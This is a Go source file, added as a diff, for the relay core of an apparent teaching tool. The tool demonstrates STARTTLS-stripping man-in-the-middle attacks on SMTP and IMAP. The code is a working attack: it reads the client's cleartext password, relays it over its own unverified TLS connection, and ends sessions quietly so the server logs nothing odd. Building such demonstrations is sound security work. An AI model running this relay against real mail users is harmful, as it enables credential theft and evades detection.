@@ -1,0 +1,637 @@
+package mitm
+
+import (
+	"bytes"
+	"context"
+	"crypto/tls"
+	"errors"
+	"fmt"
+	"io"
+	"net"
+	"os"
+	"strconv"
+	"strings"
+	"sync"
+	"sync/atomic"
+	"time"
+
+	"github.com/mailwire/mailwire/sessions"
+)
+
+// Relay bounds.
+const (
+	// maxLiteral bounds one IMAP literal or SMTP BDAT chunk the attacker
+	// relays (RFC 9051 §4.3, RFC 3030 §2); it is held in memory whole.
+	maxLiteral = 1 << 20
+	// maxGroup bounds the bytes of lines that arrived together and are
+	// reported as one event.
+	maxGroup      = 64 << 10
+	maxGroupLines = 200
+	// maxReplyLines bounds a multi-line reply the attacker reads for
+	// itself before the relay (an EHLO reply, a CAPA list).
+	maxReplyLines = 200
+	// leaveTimeout bounds the wait for the server's goodbye once the
+	// client has left.
+	leaveTimeout = 2 * time.Second
+	// attackerEHLO is the name the attacker greets the server with (RFC
+	// 2606 §2: .invalid never resolves).
+	attackerEHLO = "attacker.invalid"
+)
+
+// pconn is one proxied connection: the client's, ending at the attacker,
+// and the attacker's own to the server.
+type pconn struct {
+	p   *Proxy
+	cfg Config
+	id  int
+	ctx context.Context
+
+	client net.Conn    // as accepted
+	cconn  net.Conn    // the client side the relay uses: client, or tls.Server over it
+	cr     *lineReader // from the client
+
+	closeMu sync.Mutex
+	closed  bool
+	up      net.Conn          // the raw connection to the server
+	tap     *sessions.WireTap // on up: counts bytes, feeds the dissector once TLS starts
+	uconn   net.Conn          // tap, or tls.Client over it
+	ur      *lineReader       // from the server, at the current layer
+	upTLS   bool              // the attacker's leg is TLS (set before the relay starts)
+	diss    *sessions.Dissector
+
+	cwMu, uwMu sync.Mutex // writes to the client, to the server
+
+	credMu sync.Mutex
+	cred   sessions.CredentialState
+
+	intercept  bool        // answer capability requests and STARTTLS itself (strip attacks)
+	credSeen   atomic.Bool // the client sent a credential: capability requests go through now
+	inData     atomic.Bool // SMTP: the client is sending a message body (after 354)
+	quitSent   atomic.Bool // the client's QUIT/LOGOUT went to the server
+	rawMode    atomic.Bool // the client sent TLS records: relay bytes, not lines
+	serverGone atomic.Bool
+	relaying   atomic.Bool // reads from the server wait for as long as the client does
+	leaveBy    atomic.Int64
+
+	// Strip state, set up before the relay.
+	clearCaps, tlsCaps []string
+	ehloFirst          string // the text of an EHLO reply's first line
+	tagN               int    // the attacker's own IMAP tags: x1, x2, …
+}
+
+// closeAll cuts both connections; safe from any goroutine, more than once.
+func (c *pconn) closeAll() {
+	c.closeMu.Lock()
+	defer c.closeMu.Unlock()
+	c.closed = true
+	c.client.Close()
+	if c.up != nil {
+		c.up.Close()
+	}
+}
+
+// clientDeadline: each read from the client waits at most Timeout.
+func (c *pconn) clientDeadline() {
+	_ = c.client.SetReadDeadline(c.deadline(c.cfg.Timeout))
+}
+
+// upDeadline: before the relay each read from the server waits at most
+// Timeout; during it, as long as the connection lives (the client decides
+// the pace, and its reads are bounded); after the client left, leaveTimeout.
+func (c *pconn) upDeadline() {
+	switch {
+	case c.leaveBy.Load() != 0:
+		_ = c.up.SetReadDeadline(time.Unix(0, c.leaveBy.Load()))
+	case c.relaying.Load():
+		_ = c.up.SetReadDeadline(c.deadline(0))
+	default:
+		_ = c.up.SetReadDeadline(c.deadline(c.cfg.Timeout))
+	}
+}
+
+// deadline is now+d (d 0: no per-read limit), clipped to the connection's
+// own time limit.
+func (c *pconn) deadline(d time.Duration) time.Time {
+	dl, ok := c.ctx.Deadline()
+	if d > 0 {
+		if t := time.Now().Add(d); !ok || t.Before(dl) {
+			return t
+		}
+	}
+	if !ok {
+		return time.Time{}
+	}
+	return dl
+}
+
+// dialUpstream opens the attacker's own connection to the server.
+func (c *pconn) dialUpstream() error {
+	d := net.Dialer{Timeout: c.cfg.Timeout}
+	raw, err := d.DialContext(c.ctx, "tcp", c.cfg.Upstream)
+	if err != nil {
+		err = fmt.Errorf("connect to %s: %w", c.cfg.Upstream, err)
+		c.p.fail("dial the server", err, "")
+		return err
+	}
+	c.closeMu.Lock()
+	if c.closed {
+		c.closeMu.Unlock()
+		raw.Close()
+		return fmt.Errorf("connect to %s: %w", c.cfg.Upstream, net.ErrClosed)
+	}
+	c.up = raw
+	c.closeMu.Unlock()
+	c.tap = sessions.NewWireTap(raw, c.p.start, nil)
+	c.uconn = c.tap
+	c.ur = newLineReader(c.tap, c.cfg.MaxLine, c.upDeadline)
+	c.p.emit(sessions.Event{Kind: sessions.KindConnect, Dir: sessions.Local, Layer: sessions.LayerTCP,
+		Visible: sessions.VisibleMetadata, Annotation: "tcp.connect",
+		Text: fmt.Sprintf("attacker connected to the server %s on behalf of the client %s (connection %d)",
+			raw.RemoteAddr(), c.client.RemoteAddr(), c.id)})
+	return nil
+}
+
+// feed gives the dissector what crossed the attacker's TLS connection to
+// the server; its events join the stream in wire order.
+func (c *pconn) feed(dir sessions.Direction, _ time.Duration, b []byte) {
+	c.p.emitMu.Lock()
+	defer c.p.emitMu.Unlock()
+	for _, ev := range c.diss.Feed(dir, b) {
+		c.p.emitLocked(ev)
+	}
+}
+
+// startUpstreamTLS runs the attacker's TLS handshake with the server, after
+// a STARTTLS (boundary "tls.boundary.starttls") or from the first byte.
+func (c *pconn) startUpstreamTLS(boundaryAnn, boundaryText string) error {
+	c.p.emit(sessions.Event{Kind: sessions.KindBoundary, Dir: sessions.Local, Layer: sessions.LayerTLS,
+		Visible: sessions.VisibleMetadata, Annotation: boundaryAnn, Text: boundaryText})
+	c.diss = sessions.NewDissector()
+	c.tap.SetTap(c.feed)
+	tc := tls.Client(c.tap, &tls.Config{
+		ServerName: c.cfg.ServerName,
+		MinVersion: tls.VersionTLS12,
+		// The attacker does not care who the server is: it only wants the
+		// server to accept the session. Verification is the client's job,
+		// and the client's only defence.
+		InsecureSkipVerify: true,
+	})
+	_ = c.tap.SetDeadline(c.deadline(c.cfg.Timeout))
+	err := tc.HandshakeContext(c.ctx)
+	_ = c.tap.SetDeadline(time.Time{})
+	if err != nil {
+		err = fmt.Errorf("with %s (SNI %q): %w", c.cfg.Upstream, c.cfg.ServerName, err)
+		c.p.fail("tls handshake with the server", err, "")
+		return err
+	}
+	c.uconn = tc
+	c.ur = newLineReader(tc, c.cfg.MaxLine, c.upDeadline)
+	c.upTLS = true
+	cs := tc.ConnectionState()
+	st := &sessions.TLSState{Version: tls.VersionName(cs.Version), CipherSuite: tls.CipherSuiteName(cs.CipherSuite),
+		ALPN: cs.NegotiatedProtocol, ServerName: c.cfg.ServerName, VerifyMethod: string(sessions.VerifyOff),
+		VerifyError: "not checked: the attacker accepts any certificate"}
+	for _, pc := range cs.PeerCertificates {
+		st.PeerChain = append(st.PeerChain, pc.Subject.String())
+	}
+	c.p.emit(sessions.Event{Kind: sessions.KindTLSState, Dir: sessions.Local, Layer: sessions.LayerTLS,
+		Visible: sessions.VisibleEndpoints, Annotation: "tls.state", TLS: st,
+		Text: fmt.Sprintf("%s, %s, between the attacker and the server", st.Version, st.CipherSuite)})
+	c.p.note("the attacker's own TLS connection to the server is up; it did not check the server's certificate "+
+		"(it has no reason to). To the server this is an ordinary encrypted session: nothing on this leg betrays the attack",
+		"attack.upstream.tls", nil)
+	return nil
+}
+
+// layer is the layer and visibility of lines on the attacker's leg.
+func (c *pconn) layer() (sessions.Layer, sessions.Visibility) {
+	if c.upTLS {
+		return sessions.LayerDecrypted, sessions.VisibleEndpoints
+	}
+	return sessions.LayerCleartext, sessions.VisibleAnyone
+}
+
+// sendUp emits and writes a line the attacker sends to the server. cred is
+// the credential the line carries (the client's, relayed), or nil.
+func (c *pconn) sendUp(raw []byte, cred *sessions.Credential) error {
+	verb, ann := clientLineInfo(c.cfg.Proto, raw)
+	layer, vis := c.layer()
+	ev := sessions.Event{Kind: sessions.KindLine, Dir: sessions.ClientToServer, Layer: layer, Visible: vis,
+		Raw: raw, Text: lineText(raw), Annotation: ann, Credential: cred,
+		Line: &sessions.Line{Proto: c.cfg.Proto, Command: verb}}
+	if cred != nil {
+		ev.Also = []string{"attack.credentials"}
+	}
+	c.p.emit(ev)
+	return c.writeUp(raw)
+}
+
+func (c *pconn) writeUp(b []byte) error {
+	c.uwMu.Lock()
+	defer c.uwMu.Unlock()
+	_ = c.up.SetWriteDeadline(c.deadline(c.cfg.Timeout))
+	if _, err := c.uconn.Write(b); err != nil {
+		return fmt.Errorf("write to the server: %w", err)
+	}
+	return nil
+}
+
+func (c *pconn) writeClient(b []byte) error {
+	c.cwMu.Lock()
+	defer c.cwMu.Unlock()
+	_ = c.client.SetWriteDeadline(c.deadline(c.cfg.Timeout))
+	if _, err := c.cconn.Write(b); err != nil {
+		return fmt.Errorf("write to the client: %w", err)
+	}
+	return nil
+}
+
+// received emits what the attacker read from the server.
+func (c *pconn) received(raw []byte, ann string) {
+	layer, vis := c.layer()
+	code, lineAnn := serverLineInfo(c.cfg.Proto, raw)
+	if ann == "" {
+		ann = lineAnn
+	}
+	c.p.emit(sessions.Event{Kind: sessions.KindLine, Dir: sessions.ServerToClient, Layer: layer, Visible: vis,
+		Raw: raw, Text: lineText(raw), Annotation: ann, Line: &sessions.Line{Proto: c.cfg.Proto, Code: code}})
+}
+
+// relay runs the two directions until both ended.
+func (c *pconn) relay() {
+	c.relaying.Store(true)
+	done := make(chan struct{})
+	go func() {
+		defer close(done)
+		c.serverToClient()
+	}()
+	c.clientToServer()
+	if !c.serverGone.Load() && !c.quitSent.Load() && c.ctx.Err() == nil && !c.rawMode.Load() {
+		// The client left without QUIT/LOGOUT (a client that requires TLS
+		// and found none): the attacker ends its own session politely, so
+		// that the server logs nothing unusual.
+		c.p.note("the client left; the attacker says goodbye to the server itself, so the server sees an ordinary end",
+			"attack.relay.client_left", nil)
+		_ = c.sendUp([]byte(c.goodbye()), nil)
+	}
+	c.leaveBy.Store(time.Now().Add(leaveTimeout).UnixNano())
+	_ = c.up.SetReadDeadline(time.Now().Add(leaveTimeout))
+	<-done
+}
+
+func (c *pconn) goodbye() string {
+	switch c.cfg.Proto {
+	case sessions.ProtoIMAP:
+		return c.nextTag() + " LOGOUT\r\n"
+	}
+	return "QUIT\r\n"
+}
+
+func (c *pconn) nextTag() string {
+	c.tagN++
+	return "x" + strconv.Itoa(c.tagN)
+}
+
+// clientToServer relays the client's lines to the server, answering
+// capability requests and STARTTLS itself when it strips.
+func (c *pconn) clientToServer() {
+	continuation := false // the next line continues a command after a literal
+	for {
+		b, err := c.cr.peek()
+		if err != nil {
+			c.clientGone(err)
+			return
+		}
+		if !c.rawMode.Load() && looksLikeTLS(b) {
+			c.rawFromClient()
+			return
+		}
+		line, err := c.cr.readLine()
+		if err != nil {
+			c.clientGone(err)
+			return
+		}
+		if c.cfg.Proto == sessions.ProtoSMTP && c.inData.Load() {
+			if err := c.forwardBody(line); err != nil {
+				c.relayFailed("relay the message body", err)
+				return
+			}
+			continue
+		}
+		if !continuation && c.intercept {
+			handled, err := c.answer(line)
+			if err != nil {
+				c.relayFailed("answer the client", err)
+				return
+			}
+			if handled {
+				continue
+			}
+		}
+		if continuation, err = c.forward(line, continuation); err != nil {
+			c.relayFailed("relay to the server", err)
+			return
+		}
+	}
+}
+
+// clientGone handles the end of the client's stream.
+func (c *pconn) clientGone(err error) {
+	switch {
+	case errors.Is(err, errLineTooLong):
+		c.p.fail("read from the client", err, sessions.ExplainLineTooLong)
+	case errors.Is(err, io.EOF), errors.Is(err, net.ErrClosed), c.serverGone.Load():
+	case errors.Is(err, os.ErrDeadlineExceeded):
+		c.p.fail("read from the client", fmt.Errorf("the client sent nothing for %v: %w", c.cfg.Timeout, err), "")
+	default:
+		c.p.fail("read from the client", err, "")
+	}
+}
+
+func (c *pconn) relayFailed(op string, err error) {
+	if c.serverGone.Load() || errors.Is(err, net.ErrClosed) {
+		return
+	}
+	c.p.fail(op, err, "")
+}
+
+// forward relays one client line, with a literal or BDAT chunk that
+// follows it. It returns whether the next line continues this command.
+func (c *pconn) forward(line []byte, continuation bool) (bool, error) {
+	var cred *sessions.Credential
+	if !continuation {
+		c.credMu.Lock()
+		cred = sessions.DecodeCredential(c.cfg.Proto, line, &c.cred)
+		c.credMu.Unlock()
+	}
+	verb, _ := clientLineInfo(c.cfg.Proto, line)
+	if !continuation && (verb == "QUIT" || verb == "LOGOUT") {
+		c.quitSent.Store(true)
+	}
+	if cred != nil {
+		// The attacker's leg is TLS: the credential is not on the wire
+		// there, but the attacker read it in cleartext from the client.
+		cred.OnWire = false
+		c.credSeen.Store(true)
+	}
+	if err := c.sendUp(line, cred); err != nil {
+		return false, err
+	}
+	if cred != nil && cred.Password != "" {
+		c.p.note(fmt.Sprintf("the attacker read %s's password (%s) in the client's cleartext, and passed it on to the server inside its own TLS",
+			sessions.SafeString(cred.Username), cred.Mechanism), "attack.credentials", nil)
+	}
+	n, more := trailingCount(c.cfg.Proto, verb, line)
+	if n < 0 {
+		return more, nil
+	}
+	if n > maxLiteral {
+		return false, fmt.Errorf("the client announced %d bytes; the attacker relays at most %d", n, maxLiteral)
+	}
+	data, err := c.cr.readN(n)
+	if err != nil {
+		return false, fmt.Errorf("read %d announced bytes from the client: %w", n, err)
+	}
+	layer, vis := c.layer()
+	c.p.emit(sessions.Event{Kind: sessions.KindLine, Dir: sessions.ClientToServer, Layer: layer, Visible: vis,
+		Raw: data, Text: fmt.Sprintf("%s of %s relayed", literalName(c.cfg.Proto), plural(n, "byte")),
+		Line: &sessions.Line{Proto: c.cfg.Proto}})
+	return more, c.writeUp(data)
+}
+
+// forwardBody relays lines of an SMTP message body (RFC 5321 §4.5.2),
+// grouping the lines that arrived together into one event, until the
+// lone "." line.
+func (c *pconn) forwardBody(line []byte) error {
+	group := line
+	end := isDotLine(line)
+	for !end && c.cr.hasLine() && len(group) < maxGroup {
+		l, err := c.cr.readLine()
+		if err != nil {
+			return err
+		}
+		group = append(group, l...)
+		end = isDotLine(l)
+	}
+	if end {
+		c.inData.Store(false)
+	}
+	layer, vis := c.layer()
+	c.p.emit(sessions.Event{Kind: sessions.KindLine, Dir: sessions.ClientToServer, Layer: layer, Visible: vis,
+		Raw: group, Text: lineText(group), Annotation: "smtp.data.content", Also: []string{"attack.relay.body"},
+		Line: &sessions.Line{Proto: sessions.ProtoSMTP}})
+	return c.writeUp(group)
+}
+
+func isDotLine(l []byte) bool { return bytes.Equal(l, []byte(".\r\n")) || bytes.Equal(l, []byte(".\n")) }
+
+// serverToClient relays the server's lines to the client, one event per
+// batch that arrived together.
+func (c *pconn) serverToClient() {
+	defer func() {
+		c.serverGone.Store(true)
+		// With the server gone there is nothing left to relay: closing the
+		// client's connection (after everything was written to it) ends
+		// the other direction, as a server closing would.
+		c.client.Close()
+	}()
+	clientOK := true
+	for {
+		if c.rawMode.Load() {
+			if _, err := c.ur.peek(); err != nil {
+				return
+			}
+			if clientOK && c.writeClient(c.ur.take()) != nil {
+				clientOK = false
+			}
+			continue
+		}
+		line, err := c.ur.readLine()
+		if err != nil {
+			if errors.Is(err, errLineTooLong) {
+				if c.rawMode.Load() {
+					continue // bytes, not lines, from here
+				}
+				c.p.fail("read from the server", err, sessions.ExplainLineTooLong)
+			}
+			return
+		}
+		group, err := c.serverBatch(line)
+		if len(group) > 0 {
+			c.received(group, "")
+			if clientOK && c.writeClient(group) != nil {
+				// The client is gone; keep reading until the server ends
+				// too, so its last words are still shown.
+				clientOK = false
+			}
+		}
+		if err != nil {
+			c.p.fail("read from the server", err, "")
+			return
+		}
+	}
+}
+
+// serverBatch takes line and the lines (and IMAP literals) that arrived
+// with it, telling the credential state and the SMTP body state about each.
+func (c *pconn) serverBatch(line []byte) ([]byte, error) {
+	group := line
+	lines := 0
+	for {
+		lines++
+		c.credMu.Lock()
+		c.cred.ServerLine(c.cfg.Proto, line)
+		c.credMu.Unlock()
+		if c.cfg.Proto == sessions.ProtoSMTP && bytes.HasPrefix(line, []byte("354")) {
+			// RFC 5321 §4.1.1.4: after 354 the client sends the message,
+			// which must not be read as commands.
+			c.inData.Store(true)
+		}
+		if c.cfg.Proto == sessions.ProtoIMAP {
+			if n, ok := imapLiteral(line); ok {
+				if n > maxLiteral {
+					return group, fmt.Errorf("the server announced a literal of %d bytes; the attacker relays at most %d", n, maxLiteral)
+				}
+				data, err := c.ur.readN(n)
+				group = append(group, data...)
+				if err != nil {
+					return group, fmt.Errorf("read a literal of %d bytes: %w", n, err)
+				}
+				// The response goes on after the literal.
+				l, err := c.ur.readLine()
+				group = append(group, l...)
+				if err != nil {
+					return group, err
+				}
+				line = l
+				continue
+			}
+		}
+		if !c.ur.hasLine() || len(group) >= maxGroup || lines >= maxGroupLines {
+			return group, nil
+		}
+		l, err := c.ur.readLine()
+		if err != nil {
+			return group, err
+		}
+		group = append(group, l...)
+		line = l
+	}
+}
+
+// rawFromClient: the client sent what looks like a TLS record. The
+// attacker cannot read it; it relays bytes both ways from here.
+func (c *pconn) rawFromClient() {
+	c.rawMode.Store(true)
+	c.p.note("the client sent TLS records where the attacker expected a command: the attacker cannot read them, and relays bytes both ways from here",
+		"attack.relay.tls_from_client", nil)
+	if err := c.writeUp(c.cr.take()); err != nil {
+		return
+	}
+	buf := make([]byte, 32<<10)
+	for {
+		c.clientDeadline()
+		n, err := c.client.Read(buf)
+		if n > 0 {
+			if c.writeUp(buf[:n]) != nil {
+				return
+			}
+		}
+		if err != nil {
+			return
+		}
+	}
+}
+
+// finish ends the attacker's side: what the dissector still holds, then
+// the close event.
+func (c *pconn) finish() {
+	c.closeAll()
+	if c.diss != nil {
+		c.p.emitMu.Lock()
+		for _, dir := range []sessions.Direction{sessions.ClientToServer, sessions.ServerToClient} {
+			for _, ev := range c.diss.Flush(dir) {
+				c.p.emitLocked(ev)
+			}
+		}
+		c.p.emitMu.Unlock()
+	}
+	text := "the attacker closed both connections"
+	if c.tap != nil {
+		text += fmt.Sprintf("; %d bytes sent to the server, %d received from it", c.tap.BytesWritten(), c.tap.BytesRead())
+	}
+	c.p.emit(sessions.Event{Kind: sessions.KindClose, Dir: sessions.Local, Layer: sessions.LayerTCP,
+		Visible: sessions.VisibleMetadata, Annotation: "tcp.close", Text: text})
+}
+
+// looksLikeTLS: a TLS record header (RFC 8446 §5.1): a handshake record
+// (22) with a 3.x legacy version.
+func looksLikeTLS(b []byte) bool {
+	return len(b) >= 1 && b[0] == 0x16 && (len(b) < 2 || b[1] == 0x03)
+}
+
+// trailingCount says how many raw bytes follow a client line: an IMAP
+// literal "{n}" or "{n+}" (RFC 9051 §4.3, RFC 7888), after which the
+// command goes on (more); an SMTP "BDAT n" chunk (RFC 3030 §2). -1: none.
+func trailingCount(proto, verb string, line []byte) (n int, more bool) {
+	switch proto {
+	case sessions.ProtoIMAP:
+		if n, ok := imapLiteral(line); ok {
+			return n, true
+		}
+	case sessions.ProtoSMTP:
+		if verb == "BDAT" {
+			f := strings.Fields(string(line))
+			if len(f) >= 2 {
+				if n, err := strconv.ParseUint(f[1], 10, 31); err == nil {
+					return int(n), false
+				}
+			}
+		}
+	}
+	return -1, false
+}
+
+func literalName(proto string) string {
+	if proto == sessions.ProtoSMTP {
+		return "BDAT chunk"
+	}
+	return "literal"
+}
+
+// imapLiteral reports whether a line ends in a literal's announcement
+// "{n}", "{n+}" (RFC 7888) or "~{n}" (RFC 3516), and its size; sizes too
+// large for an int come back as maxLiteral+1.
+func imapLiteral(line []byte) (int, bool) {
+	s := strings.TrimRight(string(line), "\r\n")
+	if !strings.HasSuffix(s, "}") {
+		return 0, false
+	}
+	i := strings.LastIndexByte(s, '{')
+	if i < 0 {
+		return 0, false
+	}
+	num := strings.TrimSuffix(s[i+1:len(s)-1], "+")
+	if num == "" || strings.ContainsFunc(num, func(r rune) bool { return r < '0' || r > '9' }) {
+		return 0, false
+	}
+	n, err := strconv.ParseUint(num, 10, 31)
+	if err != nil || n > maxLiteral {
+		return maxLiteral + 1, true
+	}
+	return int(n), true
+}
+
+// lineText is a one-line summary: the first line without CRLF and a count
+// of the lines after it.
+func lineText(raw []byte) string {
+	first, rest, _ := strings.Cut(string(raw), "\n")
+	first = strings.TrimSuffix(first, "\r")
+	if len(first) > 200 {
+		first = first[:200] + "…"
+	}
+	if rest = strings.TrimSuffix(rest, "\n"); rest != "" {
+		return fmt.Sprintf("%s (+%d lines)", first, strings.Count(rest, "\n")+1)
+	}
+	return first
+}
